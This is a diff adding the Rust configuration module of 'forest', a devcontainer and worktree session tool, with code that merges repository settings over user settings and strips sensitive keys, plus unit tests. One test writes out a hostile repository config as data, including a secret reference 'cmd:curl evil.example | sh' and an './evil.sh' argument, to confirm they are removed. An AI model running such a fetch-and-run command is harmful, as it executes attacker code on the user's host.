@@ -0,0 +1,525 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use directories::ProjectDirs;
+use serde::Deserialize;
+
+use crate::git::repo_toplevel;
+use crate::{
+    backend, compat, git, helpers, hooks, layout, registry, resources, scan, style, template, wip,
+};
+
+#[derive(Deserialize, Default)]
+pub struct Config {
+    pub githuborg: Option<String>,
+    /// What `open` does when run outside a git repository
+    pub missing_repo: Option<MissingRepo>,
+    /// Seconds to wait for other sessions' git operations on the same repository
+    pub lock_timeout: Option<u64>,
+    /// Repo-local git config keys copied into each new session worktree
+    pub propagate_git_config: Option<Vec<String>>,
+    /// Directory holding session worktrees instead of `~/worktrees`
+    pub worktree_root: Option<PathBuf>,
+    /// What to do when the default worktree root is on a network filesystem
+    pub network_worktrees: Option<NetworkWorktrees>,
+    /// How session names with slashes lay out under the repository's directory
+    pub worktree_layout: Option<WorktreeLayout>,
+    /// Days purged worktrees stay in the trash
+    pub trash_retention_days: Option<u64>,
+    /// What `kill` does without `--down` or `--purge`
+    pub kill_tier: Option<KillTier>,
+    /// Adapt to jj and git-branchless when they manage the repository
+    pub tool_compat: Option<bool>,
+    /// Color palette for output: `default`, `bright` or `mono`
+    pub theme: Option<style::Theme>,
+    /// Output for screen readers and dumb terminals, as with `--plain`
+    pub plain: Option<bool>,
+    /// Experimental features switched on, by name
+    #[serde(default)]
+    pub features: BTreeMap<String, bool>,
+    /// OTLP/HTTP collector receiving traces of each command, e.g. `http://localhost:4318`
+    pub otlp_endpoint: Option<String>,
+    /// Private registries to log in to before pulling or building, by host
+    #[serde(default)]
+    pub registries: BTreeMap<String, registry::Registry>,
+    /// Vulnerability scanning of session images
+    #[serde(default)]
+    pub scan: scan::ScanConfig,
+    /// Image running the proxy of `--network allowlist` sessions
+    pub egress_proxy_image: Option<String>,
+    /// Where devcontainer templates are published
+    #[serde(default)]
+    pub templates: template::TemplateConfig,
+    /// Container engine running sessions: `podman` or `docker`
+    pub backend: Option<backend::Kind>,
+    /// Raw arguments passed on to `devcontainer build`, `up` and `exec`
+    pub devcontainer_args: Option<Vec<String>>,
+    /// Subfolder of `.devcontainer` used when `--devcontainer-env` isn't given
+    pub devcontainer_env: Option<String>,
+    /// Save uncommitted work when a session's shell exits or it's stopped
+    pub wip_on_detach: Option<wip::Mode>,
+    /// Mount helpers like `forest-sync` and `forest-open` into sessions,
+    /// answered by forest on the host while their shell runs
+    pub shell_helpers: Option<bool>,
+    /// How far the helpers reach the host's clipboard
+    #[serde(default)]
+    pub clipboard: helpers::ClipboardConfig,
+    /// Sessions and tmux panes `forest layout apply` arranges, by preset name
+    #[serde(default)]
+    pub layouts: BTreeMap<String, layout::Preset>,
+    /// Commands run around `open` and `kill`
+    #[serde(default)]
+    pub hooks: hooks::Hooks,
+    /// Snapshots of uncommitted changes kept per session
+    pub snapshot_keep: Option<usize>,
+    /// Directories mounted into every session, as `path[:target]`
+    #[serde(default)]
+    pub extra_mounts: Vec<String>,
+    /// Host memory and load thresholds checked before starting a container
+    #[serde(default)]
+    pub resources: resources::ResourceConfig,
+    /// Scheduling priority of sessions without their own, a nice value
+    pub priority: Option<i32>,
+    /// Devcontainer features added to every session, like `open --feature`
+    #[serde(default)]
+    pub default_features: Vec<String>,
+    /// How GitHub remotes are reached: `ssh` or `https`
+    pub remote_protocol: Option<RemoteProtocol>,
+    /// Push a session branch's unpushed commits before `kill`
+    #[serde(default)]
+    pub push_on_kill: bool,
+    /// Where a default devcontainer.json is written for repositories without one
+    pub scaffold: Option<ScaffoldTarget>,
+    /// Remotes to branch from, push to and open pull requests against
+    #[serde(default)]
+    pub remotes: git::Remotes,
+    /// Branch, tag or commit new session branches start from when `open`
+    /// isn't given `--from`
+    pub default_base_branch: Option<String>,
+    /// Environment variables the commands of every session get
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    /// Environment variables of every session read from a secret manager
+    /// when it opens, as `op://`, `pass:` or `cmd:` references
+    #[serde(default)]
+    pub secrets: BTreeMap<String, String>,
+    /// Template scaffolded devcontainer.json files come from, guessed from
+    /// the repository's files when unset
+    pub scaffold_template: Option<String>,
+}
+
+#[derive(Deserialize, Clone, Copy, Default, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum KillTier {
+    /// Stop the container, keeping it for the next `open`
+    #[default]
+    Stop,
+    /// Remove the container
+    Down,
+    /// Remove the container and trash the worktree
+    Purge,
+}
+
+pub const DEFAULT_PROPAGATE_GIT_CONFIG: [&str; 3] = [
+    "core.hooksPath",
+    "core.sparseCheckout",
+    "core.sparseCheckoutCone",
+];
+
+impl Config {
+    pub fn propagate_git_config(&self) -> Vec<String> {
+        self.propagate_git_config.clone().unwrap_or_else(|| {
+            DEFAULT_PROPAGATE_GIT_CONFIG
+                .iter()
+                .map(|k| k.to_string())
+                .collect()
+        })
+    }
+
+    pub fn trash_retention_secs(&self) -> u64 {
+        self.trash_retention_days.unwrap_or(14) * 24 * 60 * 60
+    }
+
+    /// Worktree-aware tools forest adapts to in this repository.
+    pub fn tools(&self, repo_root: &Path, verbose: bool) -> compat::Tools {
+        let tools = compat::detect(repo_root);
+        if self.tool_compat.unwrap_or(false) {
+            return tools;
+        }
+        if tools.any() && verbose {
+            println!("Found jj or git-branchless; set tool_compat = true to adapt to them");
+        }
+        compat::Tools::default()
+    }
+
+    pub fn devcontainer_env<'a>(&'a self, flag: Option<&'a str>) -> Option<&'a str> {
+        flag.or(self.devcontainer_env.as_deref())
+    }
+
+    pub fn lock_timeout(&self) -> std::time::Duration {
+        std::time::Duration::from_secs(self.lock_timeout.unwrap_or(60))
+    }
+}
+
+#[derive(Deserialize, Clone, Copy, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum NetworkWorktrees {
+    /// Keep using `~/worktrees` but print a warning
+    #[default]
+    Warn,
+    /// Keep worktrees in a lasting directory on local disk
+    Local,
+    /// Keep using `~/worktrees` silently
+    Allow,
+}
+
+#[derive(Deserialize, Clone, Copy, Default, PartialEq, Debug)]
+#[serde(rename_all = "lowercase")]
+pub enum WorktreeLayout {
+    /// `feat/cool` is directory `cool` inside `feat`, mirroring the branch
+    /// hierarchy
+    #[default]
+    Nested,
+    /// `feat/cool` is the single directory `feat%2Fcool`, `%` being `%25`
+    Flat,
+}
+
+impl WorktreeLayout {
+    /// Path of session `name`'s worktree below its repository's directory.
+    pub fn dir(self, name: &str) -> PathBuf {
+        match self {
+            WorktreeLayout::Nested => PathBuf::from(name),
+            WorktreeLayout::Flat => PathBuf::from(name.replace('%', "%25").replace('/', "%2F")),
+        }
+    }
+
+    /// The session name whose worktree is at `dir` below its repository's
+    /// directory, undoing `dir`.
+    pub fn name(self, dir: &Path) -> String {
+        let dir = dir.to_string_lossy();
+        if self == WorktreeLayout::Nested {
+            return dir.to_string();
+        }
+        let mut name = String::new();
+        let mut rest = dir.as_ref();
+        while let Some(at) = rest.find('%') {
+            name.push_str(&rest[..at]);
+            let escape = &rest[at..];
+            if let Some(after) = escape.strip_prefix("%2F") {
+                name.push('/');
+                rest = after;
+            } else {
+                name.push('%');
+                rest = escape.strip_prefix("%25").unwrap_or(&escape[1..]);
+            }
+        }
+        name.push_str(rest);
+        name
+    }
+}
+
+#[derive(Deserialize, Clone, Copy, PartialEq, Debug)]
+#[serde(rename_all = "lowercase")]
+pub enum RemoteProtocol {
+    Ssh,
+    /// HTTPS, authenticated with the host's GitHub CLI token
+    Https,
+}
+
+#[derive(Deserialize, Clone, Copy, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum MissingRepo {
+    /// Ask before running `git init` (falls back to failing without a terminal)
+    #[default]
+    Prompt,
+    /// Run `git init` without asking
+    Init,
+    /// Fail with guidance
+    Fail,
+}
+
+/// Where `open` writes the devcontainer.json it scaffolds.
+#[derive(Deserialize, Clone, Copy, Default, PartialEq, Debug)]
+#[serde(rename_all = "lowercase")]
+pub enum ScaffoldTarget {
+    /// `.devcontainer/devcontainer.json` in the repository
+    #[default]
+    Repo,
+    /// A directory of forest's own, leaving the repository untouched
+    Overlay,
+}
+
+pub fn config_path() -> Option<PathBuf> {
+    ProjectDirs::from("", "", "forest").map(|dirs| dirs.config_dir().join("forest.toml"))
+}
+
+/// Devcontainer templates of the user's own, next to forest.toml.
+pub fn templates_dir() -> Option<PathBuf> {
+    ProjectDirs::from("", "", "forest").map(|dirs| dirs.config_dir().join("templates"))
+}
+
+/// Settings checked in at the root of a repository, over the user's.
+pub const REPO_CONFIG: &str = ".forest.toml";
+
+/// Settings only the user's forest.toml may set: a repository shouldn't pick
+/// the credentials forest uses, where it sends traces, what it runs or mounts
+/// from the host or where on the host it writes.
+pub const USER_ONLY_SETTINGS: [&str; 8] = [
+    "registries",
+    "otlp_endpoint",
+    "hooks",
+    "extra_mounts",
+    "remote_protocol",
+    "secrets",
+    "devcontainer_args",
+    "worktree_root",
+];
+
+/// Removes the settings a repository's `.forest.toml` may not set, returning
+/// their names.
+pub fn strip_user_only_settings(repo_table: &mut toml::Table) -> Vec<&'static str> {
+    USER_ONLY_SETTINGS
+        .into_iter()
+        .filter(|key| repo_table.remove(*key).is_some())
+        .collect()
+}
+
+/// Reads the settings table at `path`, `None` if there is no such file. A
+/// file that doesn't parse, or whose settings have the wrong type, is an error
+/// naming it rather than being dropped along with every other setting.
+pub fn read_config_table(path: &Path) -> anyhow::Result<Option<toml::Table>> {
+    let content = match fs::read_to_string(path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+        Err(e) => return Err(anyhow::anyhow!("failed to read {}: {}", path.display(), e)),
+    };
+    let table: toml::Table = toml::from_str(&content)
+        .map_err(|e| anyhow::anyhow!("invalid config {}: {}", path.display(), e))?;
+    Config::deserialize(toml::Value::Table(table.clone()))
+        .map_err(|e| anyhow::anyhow!("invalid config {}: {}", path.display(), e))?;
+    Ok(Some(table))
+}
+
+/// Lays `overlay` over `base`; tables merge key by key, anything else replaces.
+pub fn merge_config(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(overlay)) => {
+                merge_config(base, overlay)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+pub fn load_config() -> anyhow::Result<Config> {
+    let mut table = match config_path() {
+        Some(path) => read_config_table(&path)?.unwrap_or_default(),
+        None => toml::Table::new(),
+    };
+    let repo_table = match repo_toplevel() {
+        Some(root) => read_config_table(&root.join(REPO_CONFIG))?,
+        None => None,
+    };
+    if let Some(mut repo_table) = repo_table {
+        for key in strip_user_only_settings(&mut repo_table) {
+            style::warn(format!(
+                "ignoring `{}` in {}; set it in your own forest.toml",
+                key, REPO_CONFIG
+            ));
+        }
+        merge_config(&mut table, repo_table);
+    }
+    Ok(toml::Value::Table(table).try_into()?)
+}
+
+/// Root directory holding `<repo>/<branch>` worktrees.
+///
+/// Defaults to `~/worktrees`. When that lives on a network filesystem, bind
+/// mounts and git's lock files are unreliable, so `network_worktrees` decides
+/// whether to warn or move worktrees to local disk.
+pub fn worktrees_dir(config: &Config) -> PathBuf {
+    if let Some(root) = &config.worktree_root {
+        return root.clone();
+    }
+    let home = std::env::var("HOME").unwrap_or_else(|_| String::from("."));
+    let default = Path::new(&home).join("worktrees");
+    let probe = if default.exists() {
+        default.as_path()
+    } else {
+        Path::new(&home)
+    };
+    let Some(fs_type) = filesystem_type(probe).filter(|t| is_network_filesystem(t)) else {
+        return default;
+    };
+    match config.network_worktrees.unwrap_or_default() {
+        NetworkWorktrees::Warn => {
+            style::warn(format!(
+                "{} is on a {} filesystem; bind mounts and git locking may misbehave. \
+                 Set `worktree_root` to a local directory or `network_worktrees = \"local\"` \
+                 in forest.toml",
+                default.display(),
+                fs_type
+            ));
+            default
+        }
+        NetworkWorktrees::Local => local_worktrees_dir(),
+        NetworkWorktrees::Allow => default,
+    }
+}
+
+/// Where `network_worktrees = "local"` keeps worktrees: forest's data
+/// directory when that's on local disk, else `/var/tmp`, which unlike the
+/// system temp directory survives reboots.
+fn local_worktrees_dir() -> PathBuf {
+    if let Ok(dir) = data_dir() {
+        let local = dir
+            .ancestors()
+            .find(|path| path.exists())
+            .and_then(filesystem_type)
+            .is_some_and(|t| !is_network_filesystem(&t));
+        if local {
+            return dir.join("worktrees");
+        }
+    }
+    let user = std::env::var("USER").unwrap_or_else(|_| String::from("forest"));
+    Path::new("/var/tmp")
+        .join(format!("forest-{}", user))
+        .join("worktrees")
+}
+
+/// Worktree of session `name` of repository `repo_name`, laid out as
+/// `worktree_layout` says.
+pub fn worktree_path(config: &Config, repo_name: &str, name: &str) -> PathBuf {
+    worktrees_dir(config)
+        .join(repo_name)
+        .join(config.worktree_layout.unwrap_or_default().dir(name))
+}
+
+pub fn filesystem_type(path: &Path) -> Option<String> {
+    let output = Command::new("stat")
+        .args(["-f", "-c", "%T"])
+        .arg(path)
+        .stderr(Stdio::null())
+        .output()
+        .ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    Some(String::from_utf8_lossy(&output.stdout).trim().to_string())
+}
+
+pub fn is_network_filesystem(fs_type: &str) -> bool {
+    let fs_type = fs_type.to_ascii_lowercase();
+    [
+        "nfs", "cifs", "smb", "afs", "9p", "lustre", "gpfs", "sshfs", "ceph",
+    ]
+    .iter()
+    .any(|t| fs_type.contains(t))
+}
+
+pub fn data_dir() -> anyhow::Result<PathBuf> {
+    ProjectDirs::from("", "", "forest")
+        .map(|dirs| dirs.data_dir().to_path_buf())
+        .ok_or_else(|| anyhow::anyhow!("could not determine data directory"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn repository_config_overrides_the_users() {
+        let mut table: toml::Table = toml::from_str(
+            "kill_tier = \"stop\"\nlock_timeout = 30\n[scan]\nscanner = \"trivy\"\n",
+        )
+        .unwrap();
+        let repo: toml::Table = toml::from_str(
+            "kill_tier = \"down\"\ndevcontainer_env = \"gpu\"\n\
+             default_features = [\"ghcr.io/devcontainers/features/rust:1\"]\n\
+             [scan]\non_critical = \"warn\"\n[remotes]\nbase = \"upstream\"\n",
+        )
+        .unwrap();
+        merge_config(&mut table, repo);
+        let config: Config = toml::Value::Table(table).try_into().unwrap();
+        assert!(config.kill_tier == Some(KillTier::Down));
+        assert_eq!(config.lock_timeout, Some(30));
+        assert_eq!(config.devcontainer_env(None), Some("gpu"));
+        assert_eq!(config.devcontainer_env(Some("cpu")), Some("cpu"));
+        assert!(config.scan.scanner.is_some() && config.scan.on_critical.is_some());
+        assert_eq!(
+            config.default_features,
+            ["ghcr.io/devcontainers/features/rust:1"]
+        );
+        assert_eq!(config.remotes.base(), "upstream");
+        assert_eq!(config.remotes.push(), "origin");
+        assert!(config.remotes.cross_repository());
+    }
+
+    #[test]
+    fn repository_config_cannot_set_user_only_settings() {
+        let mut repo: toml::Table = toml::from_str(
+            "kill_tier = \"down\"\nworktree_root = \"/etc\"\n\
+             devcontainer_args = [\"--docker-path\", \"./evil.sh\"]\n\
+             [secrets]\nAPI_TOKEN = \"cmd:curl evil.example | sh\"\n",
+        )
+        .unwrap();
+        assert_eq!(
+            strip_user_only_settings(&mut repo),
+            ["secrets", "devcontainer_args", "worktree_root"]
+        );
+        let mut table = toml::Table::new();
+        merge_config(&mut table, repo);
+        let config: Config = toml::Value::Table(table).try_into().unwrap();
+        assert!(config.secrets.is_empty());
+        assert!(config.devcontainer_args.is_none() && config.worktree_root.is_none());
+        assert!(config.kill_tier == Some(KillTier::Down));
+    }
+
+    #[test]
+    fn reports_invalid_config_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(REPO_CONFIG);
+        assert!(read_config_table(&path).unwrap().is_none());
+        fs::write(&path, "kill_tier = \"down\"\nlock_timeout = \"soon\"\n").unwrap();
+        let error = read_config_table(&path).unwrap_err().to_string();
+        assert!(error.contains(&path.display().to_string()), "{}", error);
+        assert!(error.contains("lock_timeout"), "{}", error);
+        fs::write(&path, "kill_tier = \n").unwrap();
+        assert!(read_config_table(&path).is_err());
+    }
+
+    #[test]
+    fn lays_out_branch_hierarchies() {
+        let names = ["feat/cool", "feat/ui/deep/nested/x", "100%/a%2Fb", "plain"];
+        for name in names {
+            for layout in [WorktreeLayout::Nested, WorktreeLayout::Flat] {
+                assert_eq!(layout.name(&layout.dir(name)), name);
+            }
+        }
+        let nested = WorktreeLayout::Nested.dir("feat/ui/deep/nested/x");
+        assert_eq!(nested.components().count(), 5);
+        let flat = WorktreeLayout::Flat.dir("feat/ui/deep/nested/x");
+        assert_eq!(flat, Path::new("feat%2Fui%2Fdeep%2Fnested%2Fx"));
+        assert_eq!(flat.components().count(), 1);
+        assert_eq!(
+            WorktreeLayout::Flat.dir("100%/a%2Fb"),
+            Path::new("100%25%2Fa%252Fb")
+        );
+        let config: Config = toml::from_str("worktree_layout = \"flat\"\n").unwrap();
+        assert!(worktree_path(&config, "widget", "feat/cool").ends_with("widget/feat%2Fcool"));
+    }
+
+    #[test]
+    fn detects_network_filesystems() {
+        assert!(is_network_filesystem("nfs"));
+        assert!(is_network_filesystem("fuse.sshfs"));
+        assert!(is_network_filesystem("SMB2"));
+        assert!(!is_network_filesystem("ext2/ext3"));
+        assert!(!is_network_filesystem("btrfs"));
+    }
+}